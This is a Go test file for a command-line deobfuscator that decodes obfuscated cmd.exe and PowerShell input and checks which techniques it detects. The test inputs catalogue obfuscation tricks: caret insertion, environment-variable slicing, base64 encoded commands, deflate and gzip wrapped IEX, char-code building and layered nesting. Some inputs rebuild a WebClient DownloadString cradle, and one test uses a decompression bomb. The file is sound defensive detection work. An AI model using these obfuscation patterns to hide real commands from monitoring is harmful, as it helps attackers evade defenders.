package deobfuscate

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"
)

// encUTF16 is what powershell -EncodedCommand takes.
func encUTF16(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func deflateB64(s string) string {
	var buf bytes.Buffer
	w, _ := flate.NewWriter(&buf, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func gzipB64(s string) string {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

func deflateExpr(b64 string) string {
	return "IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" +
		b64 + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
}

type deobTest struct {
	name  string
	in    string
	want  string   // a substring of the deobfuscated text
	techs []string // techniques that must be reported
}

var deobTests = []deobTest{
	// cmd.exe
	{"caret", `c^m^d /c p^o^w^e^r^s^h^e^l^l -nop`, `cmd /C powershell -nop`, []string{"caret"}},
	{"quotes", `cmd /c p"owe"rs"hell -nop`, `cmd /C powershell -nop`, []string{"quotes"}},
	{"delimiters", `cmd,;/c;,whoami`, `cmd /C whoami`, []string{"delimiters"}},
	{"env_substring", `%COMSPEC:~-7,3% /c whoami`, `cmd /C whoami`, []string{"env_substring", "env_var"}},
	{"env_substring_negative_len", `%ProgramData:~10,1%%SystemRoot:~-4,-3%d /c whoami`, `DDd /c whoami`, []string{"env_substring"}},
	{"env_substitution", `%COMSPEC:cmd.exe=powershell.exe% -nop`, `C:\WINDOWS\system32\powershell.exe -nop`, []string{"env_substitution"}},
	{"env_substitution_star", `cmd /c "set x=abcnet user&&call %x:*c=%"`, `cmd /C net user`, []string{"env_substitution", "set_variables"}},
	{"set_call", `cmd /c "set a=net&&set b= user&&call %a%%b%"`, `cmd /C net user`, []string{"set_variables"}},
	{"delayed", `cmd /V:ON /C "set x=net user&&!x!"`, `cmd /V:ON /C net user`, []string{"delayed_expansion"}},
	{"for_coding", `cmd /V:ON /C "set s=tne resu&&for %i in (1,2,0,3,7,6,5,4) do set r=!r!!s:~%i,1!&&if %i==4 call %r:*r!=%"`,
		`net user`, []string{"for_coding", "delayed_expansion", "env_substitution"}},
	{"reversal", `cmd /V:ON /C "set s=resu ten&&for /L %i in (7,-1,0) do set r=!r!!s:~%i,1!&&if %i==0 call %r:~-8%"`,
		`net user`, []string{"reversal", "delayed_expansion"}},
	{"fin_coding", `cmd /V:ON /C "set a=nXt usXr&&set b=!a:X=e!&&call %b%"`, `net user`, []string{"fin_coding"}},
	{"for_f_ftype", `FOR /F "delims=uf tokens=1" %b IN ('ftype^|find "dfi"')DO %b /C whoami`, `cmd /C whoami`, []string{"for_f"}},
	{"for_f_assoc", `for /f "tokens=2 delims=.X" %p in ('assoc.ps1xml') do echo %p`, `echo PowerShell`, []string{"for_f"}},
	{"for_f_unknown", `for /f %a in ('whoami') do echo %a & p^ing x`, `ping x`, []string{"for_f_unresolved", "caret"}},
	{"pipe_cmd", `cmd /V:ON /C "set x=ten&&set y=!x:ten=net user!&&echo !y!|cmd"`, `cmd /C net user`, []string{"fin_coding"}},
	// PowerShell
	{"encoded", "powershell -enc " + encUTF16("Write-Host pwned"), `powershell Write-Host pwned`, []string{"encoded_command"}},
	{"encoded_prefix", "powershell -NoP /encodedc " + encUTF16("whoami /all"), `whoami /all`, []string{"encoded_command"}},
	{"encoded_unicode_dash", "powershell \u2013ec " + encUTF16("whoami"), `powershell whoami`, []string{"encoded_command"}},
	{"base64_utf8", `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('` + base64.StdEncoding.EncodeToString([]byte("Get-Date")) + `')))`,
		`iex (Get-Date)`, []string{"base64"}},
	{"base64_unicode", `iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('` + encUTF16("Get-Date") + `')))`,
		`iex (Get-Date)`, []string{"base64"}},
	{"deflate", deflateExpr(deflateB64("Write-Host deflated")), `IEX Write-Host deflated`, []string{"base64", "deflate"}},
	{"gzip", `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('` + gzipB64("Write-Host gz") + `'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
		`Write-Host gz`, []string{"base64", "gzip"}},
	{"concat", `IEX ('Inv'+'oke-Exp'+"ression")`, `IEX 'Invoke-Expression'`, []string{"concat"}},
	{"format", `&("{2}{0}{1}" -f 'ke-Ex','pression','Invo') x`, `&Invoke-Expression x`, []string{"format"}},
	{"replace_op", `(New-Object Net.WebClient).(('Dowxload'+'String') -replace 'x','n')('http://e/x')`, `.DownloadString('http://e/x')`, []string{"replace", "concat"}},
	{"replace_method", `iex 'Invok~-Expr~ssion'.Replace('~','e')`, `iex 'Invoke-Expression'`, []string{"replace"}},
	{"join_unary", `&(-join ('I','E','X')) x`, `&IEX x`, []string{"replace"}},
	{"join_static", `&([string]::Join('', ('I','E','X'))) x`, `&IEX x`, []string{"replace"}},
	{"reverse_index", `iex ('noisserpxE-ekovnI'[-1..-17] -join '')`, `iex 'Invoke-Expression'`, []string{"replace"}},
	{"char_codes", `&([char]73+[char]69+[char]88) x`, `&IEX x`, []string{"char_codes", "concat"}},
	{"char_array", `&([char[]](73,69,0x58) -join '') x`, `&IEX x`, []string{"char_codes", "replace"}},
	{"char_bxor", `&([char](0x4b -bxor 2)+'EX') x`, `&IEX x`, []string{"char_codes"}},
	{"backtick", "I`E`X (New-Object Net.WebClient)", `IEX (New-Object Net.WebClient)`, []string{"backtick"}},
	{"ps_variables", `$a='Down'+'loadString';(New-Object Net.WebClient).$a('http://e/x')`, `.DownloadString('http://e/x')`, []string{"ps_variables", "concat"}},
	{"env_index", `.($env:ComSpec[4,15,25]-join'') 'x'`, `.Iex 'x'`, []string{"env_index", "replace"}},
	{"pshome_index", `&($PSHome[4]+$PSHome[30]+'x') 'x'`, `&iex 'x'`, []string{"env_index", "concat"}},
	// layers
	{"nested", "powershell -ec " + encUTF16(deflateExpr(deflateB64(`IEX ('who'+'ami')`))), `IEX IEX 'whoami'`,
		[]string{"encoded_command", "base64", "deflate", "concat"}},
	{"cmd_then_ps", `c^md /c "set e=` + encUTF16("whoami") + `&&call powershell -e %e%"`, `cmd /C powershell whoami`,
		[]string{"caret", "set_variables", "encoded_command"}},
}

func TestDeobfuscate(t *testing.T) {
	for _, tt := range deobTests {
		t.Run(tt.name, func(t *testing.T) {
			r := Deobfuscate([]byte(tt.in))
			if !strings.Contains(string(r.Text), tt.want) {
				t.Errorf("text %q\nwant it to contain %q", r.Text, tt.want)
			}
			for _, name := range tt.techs {
				x, ok := TechniqueByName(name)
				if !ok {
					t.Fatalf("unknown technique %q", name)
				}
				if !r.Techniques.Has(x) {
					t.Errorf("techniques %v lack %s", r.Techniques, name)
				}
			}
			if r.Techniques&Limits != 0 {
				t.Errorf("limit tripped: %v", r.Techniques)
			}
			if r.Layers == 0 || r.Undone == 0 {
				t.Errorf("layers %d, undone %d: want both > 0", r.Layers, r.Undone)
			}
			// Idempotence: the output is a fixed point.
			again := Deobfuscate(r.Text)
			if !bytes.Equal(again.Text, r.Text) || again.Techniques&^Neutral != 0 {
				t.Errorf("not idempotent: %q -> %q (%v)", r.Text, again.Text, again.Techniques)
			}
		})
	}
}

func TestLayers(t *testing.T) {
	r := Deobfuscate([]byte("powershell -ec " + encUTF16(deflateExpr(deflateB64(`IEX ('who'+'ami')`)))))
	if r.Layers != 3 { // encoded command, deflate, concat
		t.Errorf("layers = %d, want 3 (%q)", r.Layers, r.Text)
	}
}

// Ordinary command lines: unchanged, the very bytes, with no techniques.
var benignLines = []string{
	`"C:\Program Files\Mozilla Firefox\firefox.exe" -osint -url "https://example.com/a?b=c"`,
	`copy %TEMP%\report.txt "%USERPROFILE%\Desktop\report.txt"`,
	`cmd /c "echo hello & dir C:\Windows"`,
	`cmd.exe /c del /f /q C:\Users\me\AppData\Local\Temp\x.tmp`,
	`msiexec /i setup.msi TARGETDIR="C:\Program Files\App" /qn`,
	`findstr /r "^abc.*x$" C:\logs\app.log`,
	`git log --format="%H %s" -n 5`,
	`net user administrator /domain`,
	`powershell -NoProfile -ExecutionPolicy Bypass -Command "Get-ChildItem 'C:\Temp' | Remove-Item"`,
	`Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU -Descending`,
	`Write-Host "Hello, $name" -ForegroundColor Green`,
	`$path = 'C:\Temp'; Get-ChildItem -Path $path -Recurse -Filter *.log`,
	`schtasks /create /tn "Backup" /tr "C:\backup.cmd" /sc daily /st 02:00`,
	`reg add "HKCU\Software\App" /v Setting /t REG_SZ /d "a;b;c" /f`,
	`"C:\Windows\system32\rundll32.exe" shell32.dll,Control_RunDLL desk.cpl,,0`,
	`robocopy C:\src D:\dst /E /R:2 /W:5`,
}

func TestBenignUnchanged(t *testing.T) {
	for _, l := range benignLines {
		r := Deobfuscate([]byte(l))
		if string(r.Text) != l || r.Techniques != 0 || r.Layers != 0 || r.Undone != 0 {
			t.Errorf("%s\n got %q techniques %v layers %d undone %d", l, r.Text, r.Techniques, r.Layers, r.Undone)
		}
	}
}

func TestLimits(t *testing.T) {
	var bomb bytes.Buffer
	w, _ := flate.NewWriter(&bomb, flate.BestCompression)
	w.Write(make([]byte, 16<<20)) // 16 MiB of zeros in ~16 KiB
	w.Close()
	nested := "whoami"
	for range 12 {
		nested = "powershell -ec " + encUTF16(nested)
	}
	big := strings.Repeat("^a", 1<<19) // 1 MiB
	tests := []struct {
		name, in string
		want     Technique
	}{
		{"billion_loop", `cmd /V:ON /C "for /L %i in (1,1,1000000000) do set x=%i"`, LimitLoop},
		{"growing_loop", `cmd /V:ON /C "for /L %i in (1,1,1000000000) do set x=!x!ab"`, LimitSize},
		{"zero_step", `cmd /V:ON /C "for /L %i in (1,0,2) do echo x"`, LimitLoop},
		{"doubling", `cmd /V:ON /C "set x=aaaaaaaa&&for /L %i in (1,1,64) do set x=!x!!x!"`, LimitSize},
		{"deflate_bomb", deflateExpr(base64.StdEncoding.EncodeToString(bomb.Bytes())), LimitSize},
		{"deep_layers", nested, LimitDepth},
		{"deep_call", `cmd /c "set a=call %a%&&call %a%"`, LimitDepth},
		{"huge_line", big, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Deobfuscate([]byte(tt.in))
			if tt.want != 0 && !r.Techniques.Has(tt.want) {
				t.Errorf("techniques %v, want %s", r.Techniques, tt.want)
			}
			if lim := min(max(MaxGrowth*len(tt.in), MinOutput), MaxOutput); len(r.Text) > lim {
				t.Errorf("output %d bytes > limit %d", len(r.Text), lim)
			}
		})
	}
}

func TestTechniqueNames(t *testing.T) {
	seen := map[string]bool{}
	for x := range numTechniques {
		n := x.String()
		if n == "" || seen[n] {
			t.Fatalf("technique %d: bad or duplicate name %q", x, n)
		}
		seen[n] = true
		if y, ok := TechniqueByName(n); !ok || y != x {
			t.Errorf("TechniqueByName(%q) = %d, %v", n, y, ok)
		}
	}
	// Bit numbers are API: a model hashes them. Renumbering fails here.
	stable := map[string]Technique{"caret": 0, "quotes": 1, "env_var": 3, "for_coding": 8, "encoded_command": 12,
		"char_codes": 19, "env_index": 22, "for_f_unresolved": 23, "limit_depth": 24, "limit_loop": 26}
	for n, want := range stable {
		if got, _ := TechniqueByName(n); got != want {
			t.Errorf("%s = %d, want %d", n, got, want)
		}
	}
	s := Techniques(1)<<Caret | 1<<Deflate | 1<<LimitLoop
	if got := s.String(); got != "caret,deflate,limit_loop" {
		t.Errorf("String() = %q", got)
	}
	if _, ok := TechniqueByName("nope"); ok {
		t.Error("unknown name found")
	}
	dst := make([]string, 0, 8)
	if allocs := testing.AllocsPerRun(100, func() { dst = s.AppendNames(dst[:0]) }); allocs != 0 && !raceEnabled {
		t.Errorf("AppendNames allocates %v times", allocs)
	}
}

func TestFastPathAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts differ under the race detector")
	}
	var d Deobfuscator
	line := []byte(benignLine300)
	if suspicious(line) {
		t.Fatal("benchmark line is not on the fast path")
	}
	if allocs := testing.AllocsPerRun(100, func() { d.Run(line) }); allocs != 0 {
		t.Errorf("fast path allocates %v times", allocs)
	}
}

// benignLine300 is a 300-byte ordinary command line with no markers.
var benignLine300 = `"C:\Program Files (x86)\Common Files\Vendor Shared\Updater\UpdaterService.exe" ` +
	`--install-dir "C:\Program Files (x86)\Vendor\Product" --log C:\ProgramData\Vendor\Logs\updater.log ` +
	`--channel stable --verbose --timeout 300 --proxy http://proxy.corp.example.com:8080 --user svc_update --attempts 3`
